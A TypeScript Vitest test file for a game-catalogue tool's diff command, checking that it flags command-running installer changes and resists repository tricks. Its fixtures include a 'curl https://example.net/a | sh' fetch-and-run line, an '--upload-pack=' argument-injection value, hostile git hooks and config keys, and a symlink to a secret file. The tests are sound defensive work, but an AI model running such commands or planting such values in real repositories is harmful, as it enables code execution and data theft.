import { execFileSync } from 'node:child_process';
import { chmodSync, cpSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { SMALL } from '../../project.ts';
import { runCommand } from '../../run-command.ts';
import { temporaryFolder } from '../../temporary-folder.ts';

const RECORD = 'catalogue/games/o/openttd/openttd-c.yaml';

test('a commit is compared with the files as they are', async () => {
  const workingFolder = repository();
  append(workingFolder, 'system:\n    prelaunch_command: curl https://example.net/a | sh');
  const { code, out } = await runCommand(['diff', 'HEAD'], { workingFolder });
  expect(code).toBe(0);
  expect(out.trimEnd().split('\n').slice(-12).join('\n')).toContain('▲ openttd-c (installer changed)');
  expect(out).toMatch(/\n\n1 record to check, no breaking change\n$/);
  expect(out).toContain('`curl`');
});

test('two commits are compared, whatever the files are', async () => {
  const workingFolder = repository();
  append(workingFolder, 'system:\n    prefix_command: gamemoderun');
  commit(workingFolder);
  writeFileSync(join(workingFolder, RECORD), 'broken: [');
  const { out } = await runCommand(['diff', 'HEAD~1', 'HEAD', '--format', 'json'], { workingFolder });
  const { changes, labels } = JSON.parse(out) as {
    changes: { name: string; points: { code: string }[] }[];
    labels: string[];
  };
  expect(changes.map(({ name, points }) => [name, ...points.map(({ code }) => code)])).toEqual([
    ['openttd-c', 'command-in-settings'],
  ]);
  expect(labels).toEqual(['runs commands']);
});

test('records in which a key alone is renamed are one line for the key', async () => {
  const workingFolder = repository();
  const files = ['games/m/mojibake/game.yaml', 'games/q/quake/game.yaml'].map((path) =>
    join(workingFolder, 'catalogue', path),
  );
  const texts = files.map((file) => readFileSync(file, 'utf8'));
  const write = (more: readonly string[]) => {
    files.forEach((file, index) => {
      writeFileSync(file, `${texts[index] ?? ''}${more[index] ?? ''}`);
    });
  };
  write(['steamid: 70\ngogid: 7\n', 'steamid: 71\n']);
  commit(workingFolder);
  write(['store1_id: 70\nstore2_id: 7\n', 'store1_id: 71\n']);
  const { out } = await runCommand(['diff', 'HEAD'], { workingFolder });
  expect(out).toBe(
    'HEAD → working tree\n\nRenamed keys\n' +
      '  · gogid → store2_id: 1 record of a game\n  · steamid → store1_id: 2 records of a game\n\n' +
      'Nothing to check, no breaking change, 2 renamed keys\n',
  );
  // A record that changes in anything else is listed as before.
  write(['store1_id: 70\nstore2_id: 7\n', 'store1_id: 72\n']);
  const { out: report } = await runCommand(['diff', 'HEAD', '--format', 'markdown'], { workingFolder });
  expect(report).toContain('- `steamid` → `store1_id`: 1 record of a game\n');
  expect(report).toContain('`store1_id` is `72` instead of `71`.\n');
});

test('what the base branch did since is not the change of a branch', async () => {
  const workingFolder = repository();
  git(workingFolder, 'branch', 'side');
  append(workingFolder, 'system:\n    prefix_command: gamemoderun');
  commit(workingFolder);
  git(workingFolder, 'checkout', '-q', 'side');
  const { out: fullDiff } = await runCommand(['diff', 'main'], { workingFolder });
  expect(fullDiff).toContain('openttd-c');
  const { out: branchDiff } = await runCommand(['diff', 'main', '--merge-base'], { workingFolder });
  expect(branchDiff).toBe('main → working tree\nNo difference\n');
});

test.each(['nothing', '--upload-pack=touch ran', 'HEAD:catalogue', ''])('"%s" is not a commit', async (name) => {
  const { code, error } = await runCommand(['diff', '--', name], { workingFolder: repository() });
  expect(code).toBe(2);
  expect(error).toContain('git knows no commit');
});

test('a folder that is not a repository is refused', async () => {
  const workingFolder = temporaryFolder({ 'catalogue/site.yaml': 'base_url: https://games.test\n' });
  const { code } = await runCommand(['diff', 'HEAD'], { workingFolder });
  expect(code).toBe(2);
});

test('no program of the repository is run', async () => {
  const workingFolder = repository();
  const program = join(workingFolder, 'program');
  writeFileSync(program, `#!/bin/sh\ntouch "${workingFolder}/ran"\n`);
  chmodSync(program, 0o755);
  mkdirSync(join(workingFolder, '.git/hooks'), { recursive: true });
  for (const hook of ['post-checkout', 'post-index-change', 'reference-transaction']) {
    cpSync(program, join(workingFolder, '.git/hooks', hook));
  }
  writeFileSync(join(workingFolder, '.gitattributes'), '*.yaml diff=own filter=own\n');
  for (const key of ['core.fsmonitor', 'diff.external', 'diff.own.command', 'diff.own.textconv', 'filter.own.clean']) {
    git(workingFolder, 'config', key, program);
  }
  git(workingFolder, 'config', 'core.pager', program);
  append(workingFolder, 'system:\n    prefix_command: gamemoderun');
  const { out } = await runCommand(['diff', 'HEAD'], { workingFolder });
  expect(out).toContain('openttd-c');
  expect(existsSync(join(workingFolder, 'ran'))).toBe(false);
});

test('a repository that somebody put among the records is not used', async () => {
  const workingFolder = repository();
  git(workingFolder, 'clone', '-q', '--bare', '.', 'bare');
  cpSync(join(workingFolder, 'bare'), join(workingFolder, 'catalogue'), { recursive: true });
  expect(await runCommand(['diff', 'HEAD'], { workingFolder })).toMatchObject({ code: 2, out: '' });
});

test('a link in a commit is not followed, and what is too large is not read', async () => {
  const workingFolder = repository();
  writeFileSync(join(workingFolder, 'secret'), 'user: secret');
  symlinkSync('../../../../secret', join(workingFolder, 'catalogue/games/o/openttd/openttd-link.yaml'));
  writeFileSync(
    join(workingFolder, 'catalogue/games/o/openttd/openttd-large.yaml'),
    `notes: ${'x'.repeat(3_000_000)}\n`,
  );
  commit(workingFolder);
  const { out } = await runCommand(['diff', 'HEAD~1', 'HEAD'], { workingFolder });
  expect(out).not.toContain('user: secret');
  expect(out.length).toBeLessThan(10_000);
  expect(out).toContain('▲ openttd-large (installer added)');
});

function repository(): string {
  const folder = temporaryFolder();
  cpSync(SMALL, join(folder, 'catalogue'), { recursive: true });
  git(folder, 'init', '-q', '-b', 'main');
  commit(folder);
  return folder;
}

function append(folder: string, text: string): void {
  const file = join(folder, RECORD);
  writeFileSync(file, `${readFileSync(file, 'utf8').trimEnd()}\n  ${text}\n`);
}

function commit(folder: string): void {
  git(folder, 'add', '-A');
  git(folder, '-c', 'user.name=a', '-c', 'user.email=a@example.org', 'commit', '-q', '-m', 'change');
}

function git(folder: string, ...words: string[]): void {
  execFileSync('git', words, { cwd: folder, stdio: 'ignore' });
}
